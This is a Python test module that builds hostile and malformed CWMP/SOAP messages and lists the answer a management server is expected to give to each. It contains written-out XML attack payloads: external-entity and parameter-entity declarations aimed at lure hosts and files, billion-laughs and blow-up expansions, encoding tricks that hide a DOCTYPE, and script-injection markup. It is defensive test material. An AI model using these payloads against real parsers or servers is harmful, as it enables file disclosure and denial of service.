"""Hostile and malformed messages, and what each must be answered: written by us from the specification and the list of
known quirks, so that every line of ``reference/answers.md`` is held against a real server.

A case is bytes and an expectation. ``accepted`` is a 200 with the method's own response and the request's ID; ``fault
NNNN`` is a 200 with that CWMP fault and the ID; a number is a bare HTTP status; ``dropped`` is a closed connection
without an answer. ``LURE`` in a body stands for a URL that must never be fetched.
"""

# ruff: noqa: E501  (tables of cases)

import gzip
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Final

SOAP: Final = "http://schemas.xmlsoap.org/soap/envelope/"
SOAP_1_2: Final = "http://www.w3.org/2003/05/soap-envelope"
CWMP: Final = "urn:dslforum-org:cwmp-1-2"
LURE: Final = "http://lure.invalid"
"""Replaced by the address of a listener that only counts."""
FILE_LURE: Final = "file:///lure.invalid"
"""Replaced by the path of a file whose content must appear nowhere."""
ID: Final = "q&7"

Body = Callable[[str], bytes]


@dataclass(frozen=True)
class Case:
    """One message."""

    name: str
    body: Body
    """Takes a serial number that no other case has."""
    expect: str
    why: str
    headers: dict[str, str] = field(default_factory=dict)
    """Added to the usual ones; an empty value takes one away."""
    id: str | None = ID
    """What the answer's ID must be; None: not looked at."""


def deviceid(serial: str, oui: str = "0C383E", maker: str = "Fanvil", kind: str = "X5U") -> str:
    return (
        f"<DeviceId><Manufacturer>{maker}</Manufacturer><OUI>{oui}</OUI><ProductClass>{kind}</ProductClass>"
        f"<SerialNumber>{serial}</SerialNumber></DeviceId>"
    )


def array(name: str, member: str, members: list[str], count: str | None = None) -> str:
    number = str(len(members)) if count is None else count
    return f'<{name} e:arrayType="cwmp:{member}[{number}]">{"".join(members)}</{name}>'


def event(code: str = "1 BOOT", key: str = "") -> str:
    return f"<EventStruct><EventCode>{code}</EventCode><CommandKey>{key}</CommandKey></EventStruct>"


def value(
    name: str = "Device.DeviceInfo.SoftwareVersion", text: str = "2.12.1", type: str = ' xsi:type="xsd:string"'
) -> str:
    return f"<ParameterValueStruct><Name>{name}</Name><Value{type}>{text}</Value></ParameterValueStruct>"


EVENT: Final = array("Event", "EventStruct", [event()])
VALUES: Final = array("ParameterList", "ParameterValueStruct", [value()])
COUNTS: Final = (
    "<MaxEnvelopes>1</MaxEnvelopes><CurrentTime>2026-01-01T00:00:00Z</CurrentTime><RetryCount>0</RetryCount>"
)
HEADER: Final = '<s:Header><cwmp:ID s:mustUnderstand="1">q&amp;7</cwmp:ID></s:Header>'


def envelope(
    inner: str,
    *,
    header: str = HEADER,
    declaration: str = '<?xml version="1.0" encoding="UTF-8"?>',
    soap: str = SOAP,
    cwmp: str = CWMP,
    more: str = "",
) -> str:
    return (
        f'{declaration}<s:Envelope xmlns:s="{soap}" xmlns:e="http://schemas.xmlsoap.org/soap/encoding/"'
        ' xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xmlns:cwmp="{cwmp}"{more}>{header}<s:Body>{inner}</s:Body></s:Envelope>'
    )


def inform(
    serial: str,
    *,
    device: str | None = None,
    events: str = EVENT,
    counts: str = COUNTS,
    values: str = VALUES,
    extra: str = "",
) -> str:
    who = deviceid(serial) if device is None else device
    return f"<cwmp:Inform>{who}{events}{counts}{values}{extra}</cwmp:Inform>"


def plain(serial: str) -> bytes:
    """An Inform without anything odd."""
    return envelope(inform(serial)).encode()


def text(make: Callable[[str], str], charset: str = "utf-8") -> Body:
    return lambda serial: make(serial).encode(charset)


def replaced(old: str, new: str) -> Body:
    """The plain Inform with something else in one place."""

    def make(serial: str) -> bytes:
        whole = plain(serial).decode()
        assert old in whole, old
        return whole.replace(old, new).encode()

    return make


def with_value(typed: str, content: str) -> Body:
    inner = array("ParameterList", "ParameterValueStruct", [value("Device.X", content, typed)])
    return text(lambda serial: envelope(inform(serial, values=inner)))


def with_events(*events: str) -> Body:
    return text(lambda serial: envelope(inform(serial, events=array("Event", "EventStruct", list(events)))))


def with_values(*values: str) -> Body:
    inner = array("ParameterList", "ParameterValueStruct", list(values))
    return text(lambda serial: envelope(inform(serial, values=inner)))


def constant(data: bytes) -> Body:
    return lambda serial: data


def dtd(subset: str, inside: str = "&x;", charset: str = "utf-8", declaration: str = '<?xml version="1.0"?>') -> Body:
    def make(serial: str) -> bytes:
        whole = envelope(
            inform(serial, values=array("ParameterList", "ParameterValueStruct", [value(text=inside)])), declaration=""
        )
        return f"{declaration}{subset}{whole}".encode(charset)

    return make


_LAUGHS = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10))

XML_ATTACKS: Final = [
    Case("external file entity", dtd(f'<!DOCTYPE e [<!ENTITY x SYSTEM "{FILE_LURE}">]>'), "400", "cwmp.md 8, quirk 66"),
    Case(
        "external http entity", dtd(f'<!DOCTYPE e [<!ENTITY x SYSTEM "{LURE}/entity">]>'), "400", "cwmp.md 8, quirk 66"
    ),
    Case(
        "external public entity",
        dtd(f'<!DOCTYPE e [<!ENTITY x PUBLIC "p" "{LURE}/public">]>'),
        "400",
        "cwmp.md 8, quirk 66",
    ),
    Case("external document type", dtd(f'<!DOCTYPE e SYSTEM "{LURE}/dtd">', "1"), "400", "no DTD is ever opened"),
    Case(
        "parameter entity", dtd(f'<!DOCTYPE e [<!ENTITY % p SYSTEM "{LURE}/parameter"> %p;]>', "1"), "400", "cwmp.md 8"
    ),
    Case("internal entity", dtd('<!DOCTYPE e [<!ENTITY x "1">]>'), "400", "no entities except the five (cwmp.md 2.10)"),
    Case("empty document type", dtd("<!DOCTYPE e>", "1"), "400", "cwmp.md 8"),
    Case("document type in lower case", dtd("<!doctype html>", "1"), "400", "cwmp.md 8"),
    Case(
        "document type without a declaration before it",
        dtd('<!DOCTYPE e [<!ENTITY x "1">]>', declaration=""),
        "400",
        "cwmp.md 8",
    ),
    Case(
        "document type behind rubbish",
        dtd('rubbish\r\n<!DOCTYPE e [<!ENTITY x "1">]>', declaration=""),
        "400",
        "cwmp.md 8",
    ),
    Case("billion laughs", dtd(f'<!DOCTYPE e [<!ENTITY x0 "ha">{_LAUGHS}]>', "&x9;"), "400", "cwmp.md 8"),
    Case("quadratic blow-up", dtd(f'<!DOCTYPE e [<!ENTITY x "{"a" * 50_000}">]>', "&x;" * 5_000), "400", "cwmp.md 8"),
    Case(
        "billion laughs in UTF-16 LE",
        dtd(f'<!DOCTYPE e [<!ENTITY x0 "ha">{_LAUGHS}]>', "&x9;", "utf-16", '<?xml version="1.0" encoding="UTF-16"?>'),
        "400",
        "cwmp.md 8: decode first",
    ),
    Case(
        "external entity in UTF-16 BE without a mark",
        dtd(f'<!DOCTYPE e [<!ENTITY x SYSTEM "{LURE}/16be">]>', charset="utf-16-be"),
        "400",
        "cwmp.md 8: decode first",
    ),
    Case(
        "external entity in UTF-32",
        dtd(f'<!DOCTYPE e [<!ENTITY x SYSTEM "{LURE}/32">]>', charset="utf-32"),
        "400",
        "cwmp.md 8: decode first",
    ),
    Case(
        "external entity in UTF-7",
        lambda serial: (
            b'<?xml version="1.0" encoding="UTF-7"?>'
            + dtd(f'<!DOCTYPE e [<!ENTITY x SYSTEM "{LURE}/7">]>', declaration="")(serial)
            .decode()
            .replace("<", "+ADw-")
            .encode()
        ),
        "400",
        "cwmp.md 8: UTF-7 is not decoded",
    ),
    Case(
        "external entity in EBCDIC",
        dtd(
            f'<!DOCTYPE e [<!ENTITY x SYSTEM "{LURE}/ebcdic">]>',
            charset="cp037",
            declaration='<?xml version="1.0" encoding="cp037"?>',
        ),
        "400",
        "cwmp.md 8",
    ),
    Case(
        "document type hidden by a reference to NUL",
        dtd(f'<&#0;!DOCTYPE e [<&#0;!ENTITY x SYSTEM "{LURE}/nul">]>'),
        "400",
        "cwmp.md 8: what mending uncovers",
    ),
    Case(
        "document type hidden by control characters",
        dtd(f'<!\x01DOCTYPE e [<!\x02ENTITY x SYSTEM "{LURE}/ctl">]>'),
        "400",
        "cwmp.md 8: what stripping uncovers",
    ),
    Case(
        "document type in a comment",
        replaced("<s:Body>", "<!-- <!DOCTYPE e> --><s:Body>"),
        "400",
        "cwmp.md 8: the scan knows no comments",
    ),
    Case(
        "entity declaration in a CDATA section",
        with_value(' xsi:type="xsd:string"', "<![CDATA[<!ENTITY x 'y'>]]>"),
        "400",
        "cwmp.md 8: the scan knows no sections",
    ),
    Case(
        "undeclared entity",
        with_value(' xsi:type="xsd:string"', "a&nbsp;b"),
        "accepted",
        "quirk 68: text, not an entity",
    ),
    Case(
        "XInclude of a file",
        replaced(
            "<s:Body>",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{FILE_LURE}" parse="text"/><s:Body>',
        ),
        "accepted",
        "not processed",
    ),
    Case(
        "XInclude in a value",
        with_value("", f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{LURE}/xi"/>'),
        "accepted",
        "not processed",
    ),
    Case(
        "xml-stylesheet instruction",
        replaced("<s:Envelope", f'<?xml-stylesheet type="text/xsl" href="{LURE}/xsl"?><s:Envelope'),
        "accepted",
        "quirk 67: instructions are dropped",
    ),
    Case(
        "schemaLocation",
        replaced(
            "<s:Envelope",
            f'<s:Envelope xsi:schemaLocation="{SOAP} {LURE}/schema.xsd" xsi:noNamespaceSchemaLocation="{LURE}/x.xsd"',
        ),
        "accepted",
        "hints are not followed",
    ),
    Case("xml:base", replaced("<s:Envelope", f'<s:Envelope xml:base="{LURE}/base/"'), "accepted", "not followed"),
    Case(
        "connection request URL at a lure",
        with_values(value("Device.ManagementServer.ConnectionRequestURL", f"{LURE}/cr")),
        "accepted",
        "kept; nobody asked to call it",
    ),
    Case(
        "markup in every text",
        text(
            lambda serial: envelope(
                inform(
                    serial,
                    device=deviceid(serial, maker="&lt;script&gt;alert(1)&lt;/script&gt;", kind="]]&gt;&amp;"),
                    values=array("ParameterList", "ParameterValueStruct", [value(text="&lt;img src=x&gt;")]),
                )
            )
        ),
        "accepted",
        "cwmp.md 8: escaped wherever it is shown",
    ),
]


def _deep(depth: int) -> str:
    return "<a>" * depth + "</a>" * depth


SIZES: Final = [
    Case(
        "29 levels in an Inform",
        text(lambda serial: envelope(inform(serial, extra=_deep(29)))),
        "accepted",
        "32 levels (cwmp.md 2.10)",
    ),
    Case(
        "30 levels in an Inform",
        text(lambda serial: envelope(inform(serial, extra=_deep(30)))),
        "400",
        "33 levels (cwmp.md 2.10)",
    ),
    Case("20,000 levels", text(lambda serial: envelope(inform(serial, extra=_deep(20_000)))), "400", "cwmp.md 2.10"),
    Case("200,000 levels without an end", constant(b"<a>" * 200_000), "400", "cwmp.md 2.10"),
    Case(
        "20,000 attributes",
        replaced("<cwmp:Inform>", "<cwmp:Inform " + " ".join(f'a{n}=""' for n in range(20_000)) + ">"),
        "accepted",
        "attributes are not looked at",
    ),
    Case(
        "20,000 namespaces",
        replaced("<cwmp:Inform>", "<cwmp:Inform " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(20_000)) + ">"),
        "accepted",
        "namespaces are not looked at",
    ),
    Case(
        "500,000 elements",
        text(lambda serial: envelope(inform(serial, extra="<a/>" * 500_000))),
        "400",
        "cwmp.md 8: counted before a tree is built",
    ),
    Case("a path of 1,024 characters", with_values(value("D" * 1024)), "accepted", "cwmp.md 2.10, quirk 71"),
    Case("a path of 1,025 characters", with_values(value("D" * 1025)), "400", "cwmp.md 2.10"),
    Case("a path of 300 steps", with_values(value(".".join(["a1"] * 300))), "accepted", "quirk 71"),
    Case("a value of 1 MiB", with_values(value(text="v" * (1 << 20))), "accepted", "cwmp.md 2.10"),
    Case("a value of 1 MiB and a byte", with_values(value(text="v" * ((1 << 20) + 1))), "400", "cwmp.md 2.10"),
    Case("a value of 11 MiB", with_values(value(text="v" * (11 << 20))), "400", "cwmp.md 2.10"),
    Case(
        "50,000 parameters",
        with_values(*[value(f"Device.A.{n // 100}.B{n % 100}", "1") for n in range(50_000)]),
        "accepted",
        "cwmp.md 2.10",
    ),
    Case(
        "50,001 parameters",
        with_values(*[value(f"D.{n}", "1") for n in range(50_001)]),
        "400",
        "cwmp.md 2.10",
    ),
    Case(
        "20,000 parameters",
        with_values(*[value(f"Device.A.{n}.B", "1") for n in range(20_000)]),
        "accepted",
        "cwmp.md 2.10",
    ),
    Case("no events", with_events(), "accepted", "quirk 60"),
    Case("65 events", with_events(*[event()] * 65), "accepted", "cwmp.md 2.5: never reject"),
    Case(
        "1,000 events",
        with_events(*[event(f"X 0C383E {n}", "k" * 200) for n in range(1000)]),
        "accepted",
        "cwmp.md 2.5: never reject",
    ),
    Case(
        "an event code of 100,000 characters",
        with_events(event("X " + "e" * 100_000)),
        "accepted",
        "cwmp.md 2.5: never reject",
    ),
    Case("a comment of 4 MiB", replaced("<s:Body>", f"<!--{'c' * (4 << 20)}--><s:Body>"), "accepted", "quirk 67"),
    Case("an instruction of 4 MiB", replaced("<s:Body>", f"<?p {'c' * (4 << 20)}?><s:Body>"), "accepted", "quirk 67"),
    Case("100,000 comments", replaced("<s:Body>", "<!---->" * 100_000 + "<s:Body>"), "accepted", "quirk 67"),
    Case("4 MiB of blanks before", lambda serial: b" " * (4 << 20) + plain(serial), "accepted", "quirk 26"),
    Case("4 MiB of NUL after", lambda serial: plain(serial) + bytes(4 << 20), "accepted", "quirk 26"),
    Case("300,000 lone ampersands", with_values(value(text="&" * 300_000)), "accepted", "quirk 68"),
    Case("900,000 lone ampersands", with_values(value(text="&" * 900_000)), "400", "cwmp.md 8: mending has a bound"),
    Case(
        "4 MiB of less-than signs",
        text(lambda serial: envelope(inform(serial, extra="<" * (4 << 20)))),
        "400",
        "cwmp.md 8",
    ),
    Case("4 MiB of opening declarations", lambda serial: b"<!" * (2 << 20), "400", "cwmp.md 8"),
    Case("4 MiB of broken envelopes", lambda serial: b"</x:Envelope " * 300_000, "400", "cwmp.md 8"),
    Case("an ID of 512 characters", replaced("q&amp;7", "i" * 512), "accepted", "cwmp.md 1.2", id="i" * 512),
    Case("an ID of 513 characters", replaced("q&amp;7", "i" * 513), "400", "cwmp.md 1.2: what cannot be repeated"),
    Case("an ID of 100,000 characters", replaced("q&amp;7", "i" * 100_000), "400", "cwmp.md 1.2"),
    Case(
        "a namespace of 256 characters",
        text(lambda serial: envelope(inform(serial), cwmp="urn:cwmp-1-2:" + "n" * 243)),
        "accepted",
        "quirk 43",
    ),
    Case(
        "a namespace of 1 MiB",
        text(lambda serial: envelope(inform(serial), cwmp="urn:cwmp-1-2:" + "n" * (1 << 20))),
        "400",
        "every answer would carry it",
    ),
    Case(
        "a serial number of 256 characters",
        text(lambda serial: envelope(inform(serial.ljust(256, "7")))),
        "accepted",
        "XSD 64; longer ones are kept",
    ),
    Case(
        "a serial number of 300 characters",
        text(lambda serial: envelope(inform(serial.ljust(300, "7")))),
        "fault 8003",
        "cwmp.md 1.5",
    ),
    Case(
        "a manufacturer of 100,000 characters",
        text(lambda serial: envelope(inform(serial, device=deviceid(serial, maker="m" * 100_000)))),
        "accepted",
        "cut where it is kept",
    ),
    Case("16 MiB and a byte", lambda serial: plain(serial).ljust((16 << 20) + 1), "413", "cwmp.md 2.10", {}, None),
]

CHARSETS: Final = [
    Case(
        "ISO-8859-1 by Content-Type",
        text(lambda s: envelope(inform(s, device=deviceid(s, maker="Zürich")), declaration=""), "latin-1"),
        "accepted",
        "quirk 21",
        {"Content-Type": "text/xml; charset=ISO-8859-1"},
    ),
    Case(
        "ISO-8859-1 by declaration",
        text(
            lambda s: envelope(
                inform(s, device=deviceid(s, maker="Zürich")), declaration='<?xml version="1.0" encoding="ISO-8859-1"?>'
            ),
            "latin-1",
        ),
        "accepted",
        "quirk 22",
        {"Content-Type": "text/xml"},
    ),
    Case(
        "ISO-8859-1 that calls itself UTF-8",
        text(lambda s: envelope(inform(s, device=deviceid(s, maker="Zürich"))), "latin-1"),
        "accepted",
        "quirk 24",
    ),
    Case(
        "bytes FF in a value", lambda s: with_value("", "@")(s).replace(b"@", b"\xff\xff\xff"), "accepted", "quirk 24"
    ),
    Case(
        "GB 2312 by declaration",
        text(
            lambda s: envelope(
                inform(s, device=deviceid(s, maker="方位")), declaration='<?xml version="1.0" encoding="GB2312"?>'
            ),
            "gb2312",
        ),
        "accepted",
        "cwmp.md 2.10",
        {"Content-Type": "text/xml"},
    ),
    Case(
        "GB 18030 without a word",
        text(lambda s: envelope(inform(s, device=deviceid(s, maker="方位")), declaration=""), "gb18030"),
        "accepted",
        "cwmp.md 2.10",
        {"Content-Type": "text/xml"},
    ),
    Case(
        "UTF-16 with a mark",
        text(lambda s: envelope(inform(s), declaration='<?xml version="1.0" encoding="UTF-16"?>'), "utf-16"),
        "accepted",
        "quirk 22",
    ),
    Case(
        "UTF-16 BE without a mark",
        text(lambda s: envelope(inform(s), declaration=""), "utf-16-be"),
        "accepted",
        "quirk 22",
    ),
    Case(
        "UTF-16 LE without a mark",
        text(lambda s: envelope(inform(s), declaration=""), "utf-16-le"),
        "accepted",
        "quirk 22",
    ),
    Case(
        "UTF-16 of odd length",
        lambda s: envelope(inform(s), declaration="").encode("utf-16") + b"\0",
        "accepted",
        "quirk 22",
    ),
    Case(
        "UTF-8 that calls itself UTF-16",
        text(lambda s: envelope(inform(s), declaration='<?xml version="1.0" encoding="UTF-16"?>')),
        "accepted",
        "quirk 24",
    ),
    Case("a byte order mark", lambda s: b"\xef\xbb\xbf" + plain(s), "accepted", "quirk 26"),
    Case(
        "a byte order mark and another charset",
        lambda s: (
            b"\xef\xbb\xbf"
            + text(lambda t: envelope(inform(t), declaration='<?xml version="1.0" encoding="windows-1252"?>'))(s)
        ),
        "accepted",
        "quirk 26",
    ),
    Case(
        "a charset that nobody knows",
        replaced('encoding="UTF-8"', 'encoding="x-made-up"'),
        "accepted",
        "quirk 22",
        {"Content-Type": "text/xml; charset=x-made-up"},
    ),
    Case(
        "a charset that is a codec of Python",
        lambda s: plain(s).replace(b"UTF-8", b"rot13").replace(b"Fanvil", b"Fanvil\xc3\xbc"),
        "accepted",
        "cwmp.md 8",
        {"Content-Type": "text/xml; charset=zlib_codec"},
    ),
    Case("quoted charset", plain, "accepted", "quirk 21", {"Content-Type": "text/xml; charset='utf-8'"}),
    Case(
        "surrogates as UTF-8",
        lambda s: with_value("", "@")(s).replace(b"@", b"\xed\xa0\x80\xed\xb0\x80"),
        "accepted",
        "quirk 24",
    ),
    Case("overlong UTF-8", lambda s: with_value("", "@")(s).replace(b"@", b"\xc0\xbc\xc0\xaf"), "accepted", "quirk 24"),
    Case("cut-off UTF-8", lambda s: with_value("", "@")(s).replace(b"@", b"\xe4\xb8"), "accepted", "quirk 24"),
    Case("NUL in a value", lambda s: with_value("", "a@b")(s).replace(b"@", b"\0"), "accepted", "quirk 25"),
    Case("NUL in a tag", lambda s: plain(s).replace(b"<OUI>", b"<O\0UI>", 1), "accepted", "quirk 25"),
    Case(
        "control characters",
        lambda s: with_value("", "a@b")(s).replace(b"@", bytes(range(1, 9))),
        "accepted",
        "quirks 25 and 159",
    ),
    Case("a reference to NUL", with_value("", "a&#0;b"), "accepted", "quirk 25"),
    Case("a reference to a surrogate", with_value("", "a&#xD800;b"), "accepted", "quirk 25"),
    Case("a reference beyond Unicode", with_value("", "a&#x7FFFFFFF;&#9999999999;b"), "accepted", "quirk 25"),
    Case("a reference of 100,000 digits", with_value("", "a&#" + "9" * 100_000 + ";b"), "accepted", "quirk 68"),
    Case("U+FFFE", with_value("", "a\ufffeb"), "accepted", "quirk 25"),
    Case("beyond the first plane", with_value("", "\U0001f4de"), "accepted", "XML 1.0"),
    Case("in EBCDIC", text(lambda s: envelope(inform(s), declaration=""), "cp037"), "400", "no such charset here"),
]

WELL_FORMED: Final = [
    Case(
        "prefix that nobody declared", replaced("<cwmp:Inform>", "<cwmp:Inform zz:a='1'>"), "accepted", "quirks.md 4.8"
    ),
    Case(
        "element with a prefix that nobody declared",
        replaced("<OUI>0C383E</OUI>", "<zz:OUI>0C383E</zz:OUI>"),
        "accepted",
        "quirks.md 4.8",
    ),
    Case("attribute twice", replaced("<cwmp:Inform>", '<cwmp:Inform a="1" a="2">'), "accepted", "quirks.md 4.8"),
    Case(
        "attribute without quotes", replaced('s:mustUnderstand="1"', "s:mustUnderstand=1"), "accepted", "quirks.md 4.8"
    ),
    Case(
        "end tags that do not match",
        replaced("</EventStruct></Event>", "</Event></EventStruct>"),
        "accepted",
        "quirks.md 4.8",
        {},
        None,
    ),
    Case("the middle of an Inform is missing", lambda s: plain(s)[:-60], "400", "the rest of it cannot be guessed"),
    Case("only the first half", lambda s: plain(s)[: len(plain(s)) // 2], "400", "the rest of it cannot be guessed"),
    Case("an opening tag", constant(b"<"), "400", "not XML"),
    Case("nothing", constant(b""), "204", "cwmp.md 2.2 rule 1", {}, None),
    Case("only blanks", constant(b"\r\n \t\r\n"), "204", "cwmp.md 2.2 rule 1", {}, None),
    Case("only NUL", constant(bytes(100)), "204", "quirk 25", {}, None),
    Case("only a byte order mark", constant(b"\xef\xbb\xbf"), "400", "not XML"),
    Case("random bytes", constant(bytes((n * 7919 + n // 3) % 256 for n in range(5000))), "400", "not XML"),
    Case("JSON", constant(b'{"DeviceId": {"OUI": "0C383E"}}'), "400", "not XML", {"Content-Type": "application/json"}),
    Case(
        "a form",
        constant(b"a=b&c=%3CEnvelope%3E"),
        "400",
        "not XML",
        {"Content-Type": "application/x-www-form-urlencoded"},
    ),
    Case("a web page", constant(b"<!DOCTYPE html><html><head><title>Login</title></head></html>"), "400", "quirk 77"),
    Case(
        "a web page without a document type", constant(b"<html><body>502 Bad Gateway</body></html>"), "400", "quirk 77"
    ),
    Case("a web page in capitals", constant(b"<HTML><BODY><P>Please log in<BR></BODY></HTML>"), "400", "quirk 77"),
    Case(
        "a second envelope behind",
        lambda s: plain(s) + plain(s + "B"),
        "accepted",
        "cwmp.md 2.1: one envelope; the first counts",
    ),
    Case("rubbish before", lambda s: b"\r\nHTTP rubbish \r\n\r\n" + plain(s), "accepted", "quirk 26"),
    Case("rubbish behind", lambda s: plain(s) + b"\0\0rubbish<<<", "accepted", "quirk 26"),
    Case("XML 1.1", replaced('version="1.0"', 'version="1.1"'), "accepted", "quirk 24"),
    Case("XML 9.9", replaced('version="1.0"', 'version="9.9"'), "accepted", "quirk 24"),
    Case("standalone", replaced('encoding="UTF-8"', 'encoding="UTF-8" standalone="no"'), "accepted", "XML 1.0"),
    Case(
        "no XML declaration",
        lambda s: envelope(inform(s), declaration="").encode(),
        "accepted",
        "quirk 23",
        {"Content-Type": ""},
    ),
    Case("two XML declarations", lambda s: b'<?xml version="1.0"?>' + plain(s), "accepted", "quirk 26"),
    Case(
        "an XML declaration in single quotes",
        replaced('<?xml version="1.0" encoding="UTF-8"?>', "<?xml version='1.0' encoding='utf-8' ?>"),
        "accepted",
        "XML 1.0",
    ),
    Case("comments and instructions everywhere", replaced("><", "><!--c--><?p i?><"), "accepted", "quirk 67", {}, None),
    Case("CDATA sections", replaced("2.12.1", "<![CDATA[2.12<1]]>"), "accepted", "quirk 65"),
    Case("lone ampersands", replaced("2.12.1", "A&B & C&"), "accepted", "quirk 68"),
    Case("pretty-printed", replaced("><", ">\r\n\t <"), "accepted", "quirk 69", {}, None),
]

_NO_HEADER = text(lambda s: envelope(inform(s), header=""))

SOAP_CASES: Final = [
    Case(
        "SOAP 1.2",
        text(lambda s: envelope(inform(s), soap=SOAP_1_2)),
        "400",
        "cwmp.md 1.1: SOAP 1.2 is not allowed",
        {"Content-Type": "application/soap+xml; charset=utf-8"},
    ),
    Case(
        "SOAP namespace misspelt",
        text(lambda s: envelope(inform(s), soap="http://schemas.xmlsoap.org/informReq/envelope/")),
        "accepted",
        "quirks 41 and 45",
    ),
    Case(
        "no SOAP namespace",
        lambda s: plain(s).replace(b"s:", b"").replace(b"xmlns:s=", b"xmlns:zz="),
        "accepted",
        "quirk 41",
    ),
    Case(
        "no namespaces at all",
        lambda s: (
            f"<Envelope><Header><ID>q&amp;7</ID></Header><Body>{inform(s).replace('cwmp:', '').replace('e:', '').replace('xsi:', '')}</Body></Envelope>".encode()
        ),
        "accepted",
        "quirk 41",
    ),
    Case(
        "default namespaces",
        lambda s: (
            f'<Envelope xmlns="{SOAP}"><Header><ID xmlns="{CWMP}">q&amp;7</ID></Header><Body>{inform(s).replace("<cwmp:Inform>", f"<Inform xmlns={chr(34)}{CWMP}{chr(34)}>").replace("cwmp:Inform", "Inform").replace("e:arrayType", "arrayType").replace("xsi:", "")}</Body></Envelope>'.encode()
        ),
        "accepted",
        "quirks 41 and 42",
    ),
    Case(
        "namespace declared again on every element",
        lambda s: (
            plain(s)
            .replace(b"<OUI>", f'<OUI xmlns:cwmp="{CWMP}" xmlns="">'.encode())
            .replace(b"<cwmp:Inform>", b'<cwmp:Inform xmlns:cwmp="urn:dslforum-org:cwmp-1-0">')
        ),
        "accepted",
        "quirk 41",
    ),
    Case(
        "1999 XML Schema", lambda s: plain(s).replace(b"2001/XMLSchema", b"1999/XMLSchema"), "accepted", "quirks.md 4.8"
    ),
    Case(
        "a version that does not exist",
        text(lambda s: envelope(inform(s), cwmp="urn:dslforum-org:cwmp-1-9")),
        "accepted",
        "quirks 43 and 160",
    ),
    Case(
        "a vendor's namespace",
        text(lambda s: envelope(inform(s), cwmp="http://vendor.example/TR069/")),
        "accepted",
        "quirk 43",
    ),
    Case(
        "the namespace of XML itself",
        lambda s: plain(s).replace(b"cwmp:Inform>", b"xml:Inform>"),
        "accepted",
        "quirk 41",
    ),
    Case(
        "a namespace full of markup",
        text(lambda s: envelope(inform(s), cwmp="urn:cwmp&quot;&gt;&lt;x/&gt;&amp;'&#10;")),
        "accepted",
        "cwmp.md 8: escaped",
    ),
    Case("no Header", _NO_HEADER, "accepted", "quirk 46", {}, ""),
    Case("an empty Header", text(lambda s: envelope(inform(s), header="<s:Header/>")), "accepted", "quirk 46", {}, ""),
    Case("an empty ID", replaced("q&amp;7", ""), "accepted", "quirk 46", {}, ""),
    Case(
        "an ID that is markup",
        replaced("q&amp;7", "&lt;/cwmp:ID&gt;&lt;x&gt;&amp;amp;]]&gt;&#13;"),
        "accepted",
        "cwmp.md 1.2: byte-exact after escaping",
        {},
        "</cwmp:ID><x>&amp;]]>\r",
    ),
    Case("an ID with elements in it", replaced("q&amp;7", "1<b>2</b>"), "accepted", "quirk 47", {}, "1"),
    Case("an ID of blanks", replaced("q&amp;7", "  x  "), "accepted", "quirk 47", {}, "  x  "),
    Case("an ID without mustUnderstand", replaced(' s:mustUnderstand="1"', ""), "accepted", "quirk 48"),
    Case(
        "mustUnderstand in words", replaced('s:mustUnderstand="1"', 's:mustUnderstand="true"'), "accepted", "quirk 48"
    ),
    Case(
        "a header that must be understood",
        replaced("<s:Header>", '<s:Header><w:Security xmlns:w="urn:w" s:mustUnderstand="1" s:actor="x">t</w:Security>'),
        "accepted",
        "cwmp.md 1.2: warn and go on",
    ),
    Case(
        "two Headers",
        replaced("<s:Body>", '<s:Header><cwmp:ID s:mustUnderstand="1">other</cwmp:ID></s:Header><s:Body>'),
        "accepted",
        "the first counts",
    ),
    Case(
        "two Bodies",
        replaced("</s:Envelope>", "<s:Body><cwmp:GetRPCMethods/></s:Body></s:Envelope>"),
        "accepted",
        "the first counts",
    ),
    Case(
        "Body before Header",
        lambda s: (
            f'<s:Envelope xmlns:s="{SOAP}" xmlns:cwmp="{CWMP}"><s:Body>{inform(s).replace("e:", "").replace("xsi:", "")}</s:Body>{HEADER}</s:Envelope>'.encode()
        ),
        "accepted",
        "quirk 41",
    ),
    Case(
        "two Informs in one Body",
        text(lambda s: envelope(inform(s) + inform(s + "B"))),
        "accepted",
        "cwmp.md 2.1: the first counts",
    ),
    Case("an empty Body", text(lambda s: envelope("")), "400", "cwmp.md 2.2 rule 1: no Inform, no session"),
    Case("no Body", lambda s: plain(s).replace(b"s:Body", b"s:Bodies"), "400", "cwmp.md 2.2 rule 1"),
    Case(
        "an Envelope in lower case", lambda s: plain(s).replace(b"s:Envelope", b"s:envelope"), "400", "not an envelope"
    ),
    Case(
        "an Inform without an Envelope",
        text(lambda s: f'<cwmp:Inform xmlns:cwmp="{CWMP}">{deviceid(s)}</cwmp:Inform>'),
        "400",
        "not an envelope",
    ),
    Case(
        "an Envelope in an Envelope",
        text(lambda s: envelope(envelope(inform(s), declaration=""))),
        "400",
        "cwmp.md 2.2 rule 1",
    ),
    Case(
        "encodingStyle and actor",
        replaced("<s:Envelope", '<s:Envelope s:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"'),
        "accepted",
        "quirks.md 4.8",
    ),
    Case(
        "every child qualified",
        lambda s: (
            plain(s)
            .replace(b"<OUI>", b"<cwmp:OUI>")
            .replace(b"</OUI>", b"</cwmp:OUI>")
            .replace(b"EventStruct>", b"cwmp:EventStruct>")
            .replace(b"</cwmp:cwmp:", b"</cwmp:")
        ),
        "accepted",
        "quirk 41",
    ),
    Case(
        "HoldRequests from the phone",
        replaced("</s:Header>", '<cwmp:HoldRequests s:mustUnderstand="1">true</cwmp:HoldRequests></s:Header>'),
        "accepted",
        "cwmp.md 1.2: ignored",
    ),
    Case(
        "NoMoreRequests of nonsense",
        replaced("</s:Header>", "<cwmp:NoMoreRequests>perhaps</cwmp:NoMoreRequests></s:Header>"),
        "accepted",
        "cwmp.md 1.2: ignored",
    ),
    Case(
        "SessionTimeout of 1",
        replaced("</s:Header>", "<cwmp:SessionTimeout>1</cwmp:SessionTimeout></s:Header>"),
        "accepted",
        "quirk 49",
    ),
    Case(
        "SessionTimeout of nonsense",
        replaced("</s:Header>", "<cwmp:SessionTimeout>-99999999999999999999</cwmp:SessionTimeout></s:Header>"),
        "accepted",
        "quirk 49",
    ),
    Case(
        "SupportedCWMPVersions of nonsense",
        replaced(
